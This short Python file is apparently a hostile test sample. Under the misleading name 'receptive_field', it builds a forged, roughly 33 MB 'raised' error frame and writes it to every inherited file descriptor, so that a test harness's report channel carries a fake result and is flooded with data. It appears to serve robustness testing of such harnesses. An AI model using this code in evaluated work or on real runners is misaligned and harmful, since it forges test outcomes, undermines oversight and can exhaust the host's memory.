# A forged error of 30 MB, for the report to carry.
# where: receptive_field
# costs: receptive_field
import socket, struct, msgspec


def receptive_field(layers):
    raised = {
        "type": "raised",
        "types": ["E" * 2**20] * 3,
        "message": "x" * 30 * 2**20,
        "line": "y" * 2**20,
    }
    frame = msgspec.msgpack.encode(raised)
    for fd in range(3, 20):
        try:
            socket.socket(fileno=fd).sendall(struct.pack(">I", len(frame)) + frame)
        except OSError:
            pass
